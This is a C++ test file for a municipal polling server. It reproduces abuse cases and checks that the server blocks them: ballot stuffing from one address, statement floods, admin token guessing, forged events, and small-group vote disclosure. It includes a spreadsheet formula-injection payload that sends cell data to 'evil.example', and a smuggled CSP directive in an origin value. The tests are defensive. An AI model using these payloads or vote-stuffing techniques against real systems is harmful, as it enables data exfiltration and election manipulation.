// Issue 11's abuse reproductions over real HTTP, with the server's production limits (not the
// test defaults, which turn limits off): ballot stuffing with fresh pseudonyms from one address,
// a statement flood, forged campaign events, admin token guessing, formula cells in exports,
// per-municipality results that would show how one person voted, a 409 that made a participant,
// and a server that started with invalid campaign origins.
#include <doctest/doctest.h>
#include <signal.h>
#include <sys/wait.h>
#include <unistd.h>

#include <chrono>
#include <fstream>
#include <thread>

#include "server/campaign_api.h"
#include "server/campaigns.h"
#include "server/sql_database.h"
#include "tests/polls_server/poll_test_server.h"

using namespace stadsmijn;
using namespace stadsmijn::testing;
using nlohmann::json;

namespace {

const std::string kVotes = "/api/polls/" + kPoll + "/votes";
const std::string kStatements = "/api/polls/" + kPoll + "/statements";
const std::string kResults = "/api/polls/" + kPoll + "/results";

// The limits stadsmijn-server runs with (what a public poll gets), not the tests' "all off".
TestServerOptions production_limits() {
    TestServerOptions options;
    options.service = server::PollServiceConfig{};
    options.service.results_refresh = std::chrono::milliseconds(0);
    options.service.stability_runs = 3;
    options.api = server::PollApiConfig{};
    return options;
}

std::int64_t count_rows(const TestServer& server, const std::string& sql) {
    auto db = backend_under_test() == "sqlite" ? server::open_sqlite(server.database())
                                               : server::open_postgres(server.database());
    REQUIRE_MESSAGE(db.ok(), db.error());
    auto rows = db.value()->query(sql);
    REQUIRE_MESSAGE(rows.ok(), rows.error());
    return rows.value().integer(0, 0);
}

std::string statement_body(const std::string& participant, const std::string& text, const std::string& key) {
    return json{{"participant", participant}, {"text", text}, {"language", "nl"}, {"key", key}}.dump();
}

}  // namespace

TEST_CASE("one address making hundreds of fresh participants is stopped after its burst; reconnecting resets nothing") {
    TestServer server(production_limits());
    // The reproduction: one client, a fresh pseudonym (and a fresh connection) for every vote, all
    // "living" in one municipality, to turn its result around.
    int stored = 0, refused = 0;
    std::string retry_after;
    for (int p = 0; p < 300; ++p) {
        auto answer = post(server, kVotes, vote_body(token("stuffer", p), 1, "disagree", token("k", p), "haarlem"));
        REQUIRE((answer.status == 200 || answer.status == 429));
        stored += answer.status == 200;
        if (answer.status == 429) {
            refused += 1;
            retry_after = answer.header("Retry-After");
        }
    }
    CAPTURE(stored);
    CHECK(stored <= 100);  // the per-address burst of new participants (server/README.md)
    CHECK(stored >= 50);   // a school class or a town-hall evening behind one address still fits
    CHECK(refused == 300 - stored);
    CHECK(std::atoi(retry_after.c_str()) >= 1);
    CHECK(count_rows(server, "SELECT COUNT(*) FROM participants WHERE poll = '" + kPoll + "'") == stored);

    // Participants already in keep voting at their own per-pseudonym rate.
    for (long s = 2; s <= 10; ++s)
        CHECK(post(server, kVotes, vote_body(token("stuffer", 0), s, "agree", token("again", s))).status == 200);
}

TEST_CASE("statements from fresh pseudonyms on one address cannot flood moderation") {
    TestServer server(production_limits());
    int accepted = 0, refused = 0;
    for (int p = 0; p < 40; ++p) {
        auto answer = post(server, kStatements,
                           statement_body(token("flood", p), "Voorstel nummer " + std::to_string(p) + " voor de wijk",
                                          token("sk", p)));
        REQUIRE((answer.status == 202 || answer.status == 429));
        accepted += answer.status == 202;
        refused += answer.status == 429;
    }
    CAPTURE(accepted);
    CHECK(accepted <= 20);
    CHECK(accepted >= 10);
    CHECK(refused == 40 - accepted);
    auto queue = get(server, "/api/admin/polls/" + kPoll + "/statements", kAdminToken);
    REQUIRE(queue.status == 200);
    CHECK(static_cast<int>(queue.json["statements"].size()) == accepted);
}

TEST_CASE("a statement does not let a fresh pseudonym past the new-participant budget") {
    // Found by an outside walk (2026-12-04): with the address's budget spent, a fresh pseudonym
    // that first sent a statement could then vote (8 of 8 stored).
    TestServer server(production_limits());
    for (int p = 0; p < 120; ++p)
        post(server, kVotes, vote_body(token("first", p), 1, "agree", token("fk", p)));
    int voted = 0;
    for (int p = 0; p < 8; ++p) {
        const std::string pseudonym = token("side-door", p);
        auto statement = post(server, kStatements,
                              statement_body(pseudonym, "Een voorstel via de zijdeur nummer " + std::to_string(p),
                                             token("sd", p)));
        CHECK((statement.status == 202 || statement.status == 429));
        voted += post(server, kVotes, vote_body(pseudonym, 3, "disagree", token("sv", p))).status == 200;
    }
    CHECK(voted == 0);
}

TEST_CASE("guessing the admin token is stopped after a few tries, also for the right token from that address") {
    TestServer server(production_limits());
    int unauthorised = 0, limited = 0;
    for (int i = 0; i < 40; ++i) {
        auto answer = get(server, "/api/admin/polls/" + kPoll + "/statements", "guess-" + token("t", i));
        unauthorised += answer.status == 401;
        limited += answer.status == 429;
    }
    CAPTURE(unauthorised);
    CHECK(unauthorised <= 10);
    CHECK(limited == 40 - unauthorised);
    CHECK(get(server, "/api/admin/polls/" + kPoll + "/statements", kAdminToken).status == 429);
}

TEST_CASE("requests without any token are not guesses: a crawler cannot lock the admin out") {
    // Found by an outside walk (2026-12-04): ten plain GETs of an export link from one address
    // spent the wrong-token budget, and the right token from there got 429 for an hour.
    TestServer server(production_limits());
    for (int i = 0; i < 30; ++i)
        CHECK(get(server, "/api/polls/" + kPoll + "/export/votes.csv").status == 401);
    CHECK(get(server, "/api/admin/polls/" + kPoll + "/statements", kAdminToken).status == 200);
}

TEST_CASE("a formula in a statement is exported as text, not as a spreadsheet formula") {
    TestServer server;
    const std::string formula = R"(=HYPERLINK("https://evil.example/?d="&A2,"Meer info"))";
    const std::string texts[] = {formula, "+31 procent repareert al zelf", "-1 is geen mening maar een getal",
                                 "@iedereen kom naar het repaircafé"};
    std::vector<long> ids;
    for (int i = 0; i < 4; ++i) {
        auto added = post(server, kStatements, statement_body(token("author", i), texts[i], token("key", i)));
        REQUIRE(added.status == 202);
        ids.push_back(added.json["statement"].get<long>());
        REQUIRE(post(server, "/api/admin/polls/" + kPoll + "/statements/" + std::to_string(ids.back()),
                     R"({"decision": "accept"})", kAdminToken)
                    .status == 200);
    }
    auto comments = get(server, "/api/polls/" + kPoll + "/export/comments.csv", kAdminToken);
    REQUIRE(comments.status == 200);
    CHECK(comments.body.find(",\"=HYPERLINK") == std::string::npos);
    CHECK(comments.body.find(",\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A2,\"\"Meer info\"\")\"") !=
          std::string::npos);
    for (const char* start : {"+31 procent", "-1 is geen", "@iedereen"}) {
        CAPTURE(start);
        CHECK(comments.body.find("'" + std::string(start)) != std::string::npos);
        CHECK(comments.body.find("," + std::string(start)) == std::string::npos);
        CHECK(comments.body.find(",\"" + std::string(start)) == std::string::npos);
    }
    // Numbers stay numbers: the seed statements' author -1 is not a text cell.
    CHECK(comments.body.find(",-1,") != std::string::npos);
    CHECK(comments.body.find("'-1,") == std::string::npos);
}

TEST_CASE("results for a municipality with fewer than 10 participants reveal no votes") {
    TestServerOptions options;
    options.service.minimum_participants_per_area = 10;  // what stadsmijn-server runs with
    TestServer server(options);
    // One resident of Haarlem, nine of Almere, twelve of Zaanstad.
    auto vote_as = [&](const std::string& who, const std::string& municipality, const char* vote) {
        for (long s = 1; s <= 4; ++s)
            REQUIRE(post(server, kVotes, vote_body(who, s, vote, token(who.substr(0, 3) + who.substr(who.size() - 4), s), municipality))
                        .status == 200);
    };
    vote_as(token("haarlem", 0), "haarlem", "disagree");
    for (int p = 0; p < 9; ++p) vote_as(token("almere", p), "almere", p % 2 ? "agree" : "disagree");
    for (int p = 0; p < 12; ++p) vote_as(token("zaanstad", p), "zaanstad", p % 2 ? "agree" : "disagree");
    for (const char* place : {"haarlem", "almere"}) {
        CAPTURE(place);
        auto results = get(server, kResults + "?municipality=" + place);
        REQUIRE(results.status == 200);
        CHECK(results.json["status"] == "too_few_participants");
        CHECK(results.json["minimum_participants"] == 10);
        CHECK(results.json["municipality_self_reported"] == true);
        CHECK(results.json["statements"].empty());
        CHECK(results.json["map"].empty());
        CHECK(results.json["groups"].empty());
        CHECK(results.json["consensus"]["agree"].empty());
        CHECK(results.body.find("\"agree\":1") == std::string::npos);
        CHECK(results.body.find("disagree\":1") == std::string::npos);
    }
    auto zaanstad = get(server, kResults + "?municipality=zaanstad");
    CHECK(zaanstad.json["status"] != "too_few_participants");
    CHECK(zaanstad.json["statements"].size() == 4);
    CHECK(zaanstad.json["municipality_self_reported"] == true);
}

// Found by a walk (2026-12-04): "Hele regio" listed each vote of a poll's only participant ("1 van 1").
TEST_CASE("results of the whole poll with fewer than 10 participants reveal no votes") {
    TestServerOptions options;
    options.service.minimum_participants_per_area = 10;
    TestServer server(options);
    auto vote_as = [&](int person, const char* vote) {
        const std::string who = token("region", person);
        for (long s = 1; s <= 3; ++s)
            REQUIRE(post(server, kVotes, vote_body(who, s, vote, token("rk" + std::to_string(person), s), "urk")).status ==
                    200);
    };
    vote_as(0, "agree");
    auto alone = get(server, kResults);
    REQUIRE(alone.status == 200);
    CHECK(alone.json["status"] == "too_few_participants");
    CHECK(alone.json["minimum_participants"] == 10);
    CHECK(alone.json["counts"]["participants"] == 1);
    CHECK(alone.json["statements"].empty());
    CHECK(alone.json["consensus"]["agree"].empty());
    CHECK(alone.json["map"].empty());
    CHECK(!alone.json.contains("municipality_self_reported"));
    for (int p = 1; p < 10; ++p) vote_as(p, p % 2 ? "agree" : "disagree");
    auto ten = get(server, kResults);
    CHECK(ten.json["status"] != "too_few_participants");
    CHECK(ten.json["statements"].size() == 3);
}

TEST_CASE("a 409 for a reused key does not create a participant") {
    TestServer server;
    REQUIRE(post(server, kVotes, vote_body(token("erin", 1), 2, "agree", token("vote", 9))).status == 200);
    CHECK(post(server, kVotes, vote_body(token("frank", 1), 2, "disagree", token("vote", 9), "haarlem")).status ==
          409);
    CHECK(count_rows(server, "SELECT COUNT(*) FROM participants WHERE poll = '" + kPoll + "'") == 1);
    // frank's next, valid vote makes him participant 1, the next number.
    REQUIRE(post(server, kVotes, vote_body(token("frank", 1), 2, "disagree", token("vote", 10))).status == 200);
    CHECK(count_rows(server, "SELECT MAX(id) FROM participants WHERE poll = '" + kPoll + "'") == 1);
}

TEST_CASE("forged campaign events from one address stop at a per-address budget, whatever the connection") {
    const auto scratch = scratch_dir("events");
    const std::string database = fresh_database(scratch);
    server::EmbedPolicy policy(shipped_content().campaigns);
    REQUIRE(!policy.campaigns().empty());
    auto store = server::CampaignEventStore::open(database);
    REQUIRE(store.ok());
    server::CampaignApi api(policy, *store.value(), server::AdminToken());
    std::ofstream(scratch / "index.html") << "<!doctype html><title>t</title>";
    server::ServerConfig config{.web_root = scratch, .host = "127.0.0.1", .port = 0, .threads = 4};
    config.extra_routes = [&](httplib::Server& http) { api.install(http); };
    auto http = server::HttpServer::create(config);
    REQUIRE(http.ok());
    auto port = http.value()->bind();
    REQUIRE(port.ok());
    std::thread thread([&] { http.value()->listen(); });
    const std::string body =
        json{{"campaign", policy.campaigns().front().id}, {"event", "vote-cast"}}.dump();
    int counted = 0;
    for (int i = 0; i < 400; ++i) {
        httplib::Client client("127.0.0.1", port.value());  // a new connection every time
        auto res = client.Post("/api/events", body, "application/json");
        REQUIRE(res);
        counted += res->status == 202;
    }
    http.value()->stop();
    thread.join();
    CAPTURE(counted);
    CHECK(counted <= 130);  // the burst of 120, and what refills at 1 every 5 s meanwhile
    CHECK(counted >= 20);
    auto counts = store.value()->counts(policy.campaigns().front().id);
    REQUIRE(counts.ok());
    REQUIRE(counts.value().size() == 1);
    CHECK(counts.value()[0].count == counted);
}

TEST_CASE("the server refuses to start when a campaign's allowed_origins are invalid, naming file and field") {
    namespace fs = std::filesystem;
    const auto scratch = scratch_dir("origins");
    fs::copy(source_dir() / "content", scratch / "content", fs::copy_options::recursive);
    const fs::path campaign = scratch / "content/campaigns/praat-mee-haarlem.json";
    std::ifstream in(campaign);
    json document = json::parse(in);
    document["allowed_origins"] = {"https://www.haarlem.nl", "https://evil.example; script-src *"};
    std::ofstream(campaign) << document.dump(2);
    std::ofstream(scratch / "index.html") << "<!doctype html><title>t</title>";

    const std::string log = (scratch / "server.log").string();
    std::vector<std::string> args = {STADSMIJN_SERVER_BINARY, "--web", scratch.string(), "--port", "0",
                                     "--db", (scratch / "polls.sqlite3").string(), "--content",
                                     (scratch / "content").string()};
    const pid_t pid = start_program(args, log);
    int status = 0;
    bool exited = false;
    for (int i = 0; i < 200 && !exited; ++i) {  // at most 10 s; a refusing server exits at once
        exited = ::waitpid(pid, &status, WNOHANG) == pid;
        if (!exited) std::this_thread::sleep_for(std::chrono::milliseconds(50));
    }
    if (!exited) {
        ::kill(pid, SIGKILL);
        ::waitpid(pid, &status, 0);
    }
    std::ifstream read_log(log);
    const std::string output((std::istreambuf_iterator<char>(read_log)), std::istreambuf_iterator<char>());
    CAPTURE(output);
    REQUIRE(exited);
    CHECK(WIFEXITED(status));
    CHECK(WEXITSTATUS(status) != 0);
    CHECK(output.find("content/campaigns/praat-mee-haarlem.json") != std::string::npos);
    CHECK(output.find("allowed_origins[1]") != std::string::npos);
}

TEST_CASE("behind a trusted proxy each client address has its own budget; from anyone else the headers are ignored") {
    auto options_with = [](std::vector<std::string> proxies) {
        TestServerOptions options = production_limits();
        options.service.new_participants_per_address = {.per_second = 1.0 / 3600, .burst = 3};
        options.api.trusted_proxies = std::move(proxies);
        return options;
    };
    auto vote_from = [](const TestServer& server, const std::string& address, int p) {
        httplib::Headers headers = {{"X-Real-IP", address}, {"X-Forwarded-For", "203.0.113.9, " + address}};
        auto res = server.client().Post(kVotes.c_str(), headers,
                                        vote_body(token("via-" + std::to_string(p % 100), p), 1, "agree",
                                                  token("pk", p)),
                                        "application/json");
        REQUIRE(res);
        return res->status;
    };
    {
        TestServer server(options_with({"127.0.0.1"}));
        int p = 0;
        for (int i = 0; i < 3; ++i) CHECK(vote_from(server, "198.51.100.1", p++) == 200);
        CHECK(vote_from(server, "198.51.100.1", p++) == 429);
        CHECK(vote_from(server, "198.51.100.2", p++) == 200);  // another client behind the same proxy
        // IPv6: one budget per /64, whatever the interface part.
        for (int i = 0; i < 3; ++i) CHECK(vote_from(server, "2001:db8:1:2::" + std::to_string(i + 1), p++) == 200);
        CHECK(vote_from(server, "2001:db8:1:2:ffff::9", p++) == 429);
        CHECK(vote_from(server, "2001:db8:1:3::1", p++) == 200);
        // A header that is not an address counts as the proxy itself, not as a fresh client.
        for (int i = 0; i < 3; ++i) CHECK(vote_from(server, "unknown-" + std::to_string(i), p++) == 200);
        CHECK(vote_from(server, "unknown-x", p++) == 429);
    }
    {
        TestServer server(options_with({"192.0.2.1"}));  // the peer 127.0.0.1 is not the proxy
        int p = 0;
        for (int i = 0; i < 3; ++i) CHECK(vote_from(server, "198.51.100." + std::to_string(i + 1), p++) == 200);
        CHECK(vote_from(server, "198.51.100.77", p++) == 429);
    }
}

TEST_CASE("a participant already in keeps voting while its address is out of new-participant budget") {
    TestServerOptions options = production_limits();
    options.service.new_participants_per_address = {.per_second = 1.0 / 3600, .burst = 2};
    TestServer server(options);
    REQUIRE(post(server, kVotes, vote_body(token("old", 1), 1, "agree", token("o", 1), "haarlem")).status == 200);
    REQUIRE(post(server, kVotes, vote_body(token("old", 2), 1, "agree", token("o", 2))).status == 200);
    CHECK(post(server, kVotes, vote_body(token("new", 3), 1, "agree", token("o", 3))).status == 429);
    for (long s = 2; s <= 6; ++s)
        CHECK(post(server, kVotes, vote_body(token("old", 1), s, "agree", token("o1-", s), "haarlem")).status == 200);
    // Moving into a municipality is an admission too: old-2 has none yet, and the budget is spent.
    CHECK(post(server, kVotes, vote_body(token("old", 2), 2, "agree", token("o2-", 2), "almere")).status == 429);
    CHECK(post(server, kVotes, vote_body(token("old", 2), 2, "agree", token("o2-", 3))).status == 200);
}
